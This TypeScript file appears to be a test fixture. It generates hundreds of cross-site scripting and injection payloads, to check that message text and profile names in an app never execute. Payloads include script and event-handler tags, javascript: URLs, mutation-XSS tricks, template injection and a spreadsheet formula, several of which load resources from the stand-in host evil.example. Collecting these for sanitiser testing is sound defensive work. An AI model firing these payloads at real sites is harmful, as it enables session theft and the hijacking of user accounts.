/**
 * What a hostile text calls when it runs: a global of the page that counts, so that nothing that
 * ran goes unseen.
 */
export const RAN = 'hostileRan';
/** Where a hostile text wants to send something. */
export const FOREIGN_HOST = 'evil.example';

const CALL = `${RAN}()`;
const AWAY = `//${FOREIGN_HOST}/x`;

/**
 * One of each way in that is known: elements that run, attributes that run, addresses that run,
 * styles, frames, templates, and breaking out of all of them.
 */
const SEEDS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src=${AWAY}></script>`,
  `<script type=module>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `</script><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}"//`,
  `<img src="x\`\`onerror=${CALL}">`,
  `<img src=${AWAY}>`,
  `<img srcset="${AWAY} 1x">`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src=${AWAY}></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<video><source onerror=${CALL}></video>`,
  `<video src=x onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<button autofocus onfocus=${CALL}>x</button>`,
  `<form action="javascript:${CALL}"><input type=submit></form>`,
  `<isindex action="javascript:${CALL}" type=image>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="&#106;avascript:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}">x</a>`,
  `<a href="data:text/html,<script>opener.${CALL}</script>" target=_blank>x</a>`,
  `<base href=${AWAY}>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<link rel=import href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=https:${AWAY}">`,
  `<style>@import "${AWAY}";</style>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<div style="animation:x 1s" onanimationstart=${CALL}>x</div>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xss onmouseover=${CALL}>x</xss>`,
  `<custom-element onclick=${CALL} tabindex=1 autofocus>`,
  `<portal src=${AWAY}></portal>`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `javascript://%0a${CALL}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${CALL}`,
  `https:${AWAY}?<script>${CALL}</script>`,
  `[x](javascript:${CALL})`,
  `![x](https:${AWAY})`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{{7*7}}`,
  `$t(nav.home)`,
  `{{name}}`,
  `%s%n%x`,
  `';${CALL};//`,
  `";${CALL};//`,
  `\`;${CALL};//`,
  `\\";${CALL};//`,
  `--><script>${CALL}</script><!--`,
  `]]><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  `\u003cscript\u003e${CALL}\u003c/script\u003e`,
  `=HYPERLINK("https:${AWAY}","x")`,
  `"onmouseover=${CALL} x="`,
  `'onmouseover=${CALL} x='`,
];

/**
 * The same in other clothes: after a quote that ends an attribute, as entities, percent-encoded,
 * with full-width brackets, in mixed case.
 */
const CLOTHES: readonly ((seed: string) => string)[] = [
  (seed) => seed,
  (seed) => `">${seed}`,
  (seed) => seed.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (seed) =>
    seed
      .replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`)
      .replace(/on(\w)/g, 'ON$1'),
];

/**
 * At least two hundred texts that must never run, each another and each within a message's length.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set(SEEDS.flatMap((seed) => CLOTHES.map((dress) => dress(seed)))),
];

/** Those that fit into a profile's name, and shorter ones that are written for it. */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src onerror=x()>',
  '<svg onload=x()>',
  '"><script>x()',
  '\'"><b>',
  '{{7*7}}',
  '${7*7}',
  '$t(nav.home)',
  '{{name}}',
  'javascript:x()',
  '</title><b>',
  '--><b>',
  '&lt;b&gt;',
  '%3Cb%3E',
  '<!--',
  ']]>',
  '\\u003cb\\u003e',
  '<b onclick=x()>',
  '<a href=//e.x>',
  '<base href=//e.x>',
  '__proto__',
  'constructor',
  '=1+1',
  '"onclick=x() ',
];
